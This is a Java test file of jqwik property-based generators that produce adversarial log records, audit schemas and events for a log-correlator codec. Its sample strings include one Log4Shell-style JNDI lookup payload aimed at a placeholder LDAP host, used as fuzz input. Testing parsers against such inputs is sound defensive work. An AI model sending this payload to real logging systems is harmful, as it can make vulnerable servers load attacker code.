package io.correlator.core.codec;

import io.correlator.api.AuditEvent;
import io.correlator.api.AuditSchema;
import io.correlator.api.Block;
import io.correlator.api.EmittedEvent;
import io.correlator.api.Event;
import io.correlator.api.Fields;
import io.correlator.api.LogRecord;
import io.correlator.api.ParseFailure;
import io.correlator.api.RecordHeader;
import io.correlator.api.RecordId;
import io.correlator.api.Severity;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.arbitraries.StringArbitrary;

/** Events with everything in them that an attacker or a clumsy module could think of. */
public final class Events {
  private Events() {}

  /** Any text: controls, halves of characters, quotes, and ordinary words. */
  public static Arbitrary<String> texts() {
    StringArbitrary any = Arbitraries.strings().withCharRange('\0', '\uffff').ofMaxLength(20);
    return Arbitraries.oneOf(
        any,
        Arbitraries.of(
            "",
            "a\u0000b\r\n\t\u001b[31m\u007f\u0085\u2028\u202e",
            "\ud800",
            "x\udc00\ud83d\ude00",
            "{\"instant\":\"x\"}",
            "\\u0041 \" ' = ${jndi:ldap://192.0.2.1/a}",
            "root"));
  }

  private static Arbitrary<Instant> instants() {
    return Arbitraries.oneOf(
        Arbitraries.longs()
            .between(-4_000_000_000_000L, 4_000_000_000_000L)
            .map(Instant::ofEpochMilli),
        Arbitraries.of(
            Instant.MIN, Instant.MAX, Instant.EPOCH, Instant.ofEpochSecond(1, 999_999_999)));
  }

  private static Arbitrary<Duration> durations() {
    return Arbitraries.oneOf(
        Arbitraries.longs().map(Duration::ofMillis),
        Arbitraries.longs().map(Duration::ofNanos),
        Arbitraries.of(
            Duration.ofSeconds(Long.MAX_VALUE, 999_999_999), Duration.ofSeconds(Long.MIN_VALUE)));
  }

  private static Arbitrary<Object> scalars() {
    return Arbitraries.oneOf(
        texts().asGeneric(),
        Arbitraries.longs().asGeneric(),
        Arbitraries.doubles().asGeneric(),
        Arbitraries.of(Double.NaN, Double.POSITIVE_INFINITY, -0.0, Double.MIN_VALUE, 1e300)
            .asGeneric(),
        Arbitraries.of(true, false).asGeneric(),
        Arbitraries.of(Fields.NULL),
        instants().asGeneric(),
        durations().asGeneric());
  }

  static Arbitrary<Fields> fields(int depth) {
    Arbitrary<Object> values =
        depth == 0
            ? scalars()
            : Arbitraries.frequencyOf(
                net.jqwik.api.Tuple.of(4, scalars()),
                net.jqwik.api.Tuple.of(1, fields(depth - 1).asGeneric()),
                net.jqwik.api.Tuple.of(1, scalars().list().ofMaxSize(3).asGeneric()));
    return Arbitraries.maps(texts(), values).ofMaxSize(4).map(Fields::copyOf);
  }

  private static Arbitrary<LogRecord> records() {
    Arbitrary<byte[]> lines =
        Arbitraries.oneOf(
            Arbitraries.bytes().array(byte[].class).ofMaxSize(40),
            texts().map(text -> text.getBytes(StandardCharsets.UTF_8)));
    return Combinators.combine(
            lines,
            texts(),
            Arbitraries.longs(),
            Arbitraries.longs().between(0, 1L << 40),
            Arbitraries.integers().between(0, 1 << 20),
            Arbitraries.of(Block.Counting.values()),
            Arbitraries.longs(),
            fields(1))
        .as(Events::record);
  }

  /** The number decides on all that is yes or no, and on where the parts are. */
  private static LogRecord record(
      byte[] line,
      String source,
      long incarnation,
      long position,
      int choices,
      Block.Counting counting,
      long time,
      Fields fields) {
    byte[] before = "before\n".getBytes(StandardCharsets.UTF_8);
    byte[] bytes = new byte[before.length + line.length + 1];
    System.arraycopy(before, 0, bytes, 0, before.length);
    System.arraycopy(line, 0, bytes, before.length, line.length);
    int from = before.length;
    int third = line.length / 3;
    RecordHeader header = new RecordHeader();
    if ((choices & 1) != 0) {
      header.timestamp(time);
    }
    if ((choices & 2) != 0) {
      header.priority(choices % 192);
    }
    if ((choices & 4) != 0) {
      header.host(from, from + third);
      header.program(from + third, from + 2 * third);
      header.processId(from + 2 * third, from + line.length);
      header.message(from + 2 * third);
    }
    if ((choices & 128) != 0) {
      header.quotedMessage(from + third);
    }
    if ((choices & 8) != 0) {
      header.failed(ParseFailure.values()[choices % ParseFailure.values().length]);
    }
    Block.Provenance provenance =
        new Block.Provenance(source, incarnation, counting, "syslog", record -> fields);
    Block block =
        Block.of(bytes, provenance, position, choices % 3, Instant.ofEpochMilli(time / 2));
    int to = from + line.length;
    Instant fallback = Instant.ofEpochMilli(time);
    LogRecord record =
        (choices & 16) != 0
            ? block.truncatedRecord(from, to, 1, header, fallback)
            : block.record(from, to, 1, header, fallback);
    if ((choices & 32) != 0) {
      record = record.flagged(LogRecord.Flag.LATE);
    }
    return (choices & 64) != 0
        ? record.retimed(Instant.ofEpochMilli(time / 3), LogRecord.Flag.CLOCK_SKEW)
        : record;
  }

  private record Row(
      AuditSchema schema,
      Instant timestamp,
      Severity severity,
      String summary,
      Fields fields,
      List<LogRecord> evidence)
      implements AuditEvent {}

  private record Plain(
      String type,
      Instant timestamp,
      Severity severity,
      String summary,
      Fields fields,
      List<String> mainFields,
      List<LogRecord> evidence)
      implements Event {}

  private static Arbitrary<Event> events() {
    Arbitrary<Event> plain =
        Combinators.combine(
                texts(),
                instants(),
                Arbitraries.of(Severity.values()),
                texts(),
                fields(2),
                texts().list().ofMaxSize(2),
                records().list().ofMaxSize(3))
            .as(Plain::new);
    Arbitrary<Event> audit =
        Combinators.combine(
                schemas(),
                instants(),
                Arbitraries.of(Severity.values()),
                texts(),
                fields(0),
                records().list().ofMaxSize(2))
            .as(Row::new);
    return Arbitraries.oneOf(plain, audit);
  }

  private static Arbitrary<AuditSchema> schemas() {
    Arbitrary<List<AuditSchema.Column>> columns =
        Combinators.combine(texts(), Arbitraries.of(AuditSchema.Kind.values()))
            .as(AuditSchema.Column::new)
            .list()
            .uniqueElements(AuditSchema.Column::name)
            .ofMaxSize(4);
    return Combinators.combine(texts(), columns).as(AuditSchema::new);
  }

  /** Any event. */
  public static Arbitrary<EmittedEvent> emitted() {
    return Combinators.combine(events(), texts(), Arbitraries.integers())
        .as(
            (event, origin, index) ->
                EmittedEvent.causedBy(new RecordId("auth.log", 0, 4096), origin, event, index));
  }
}
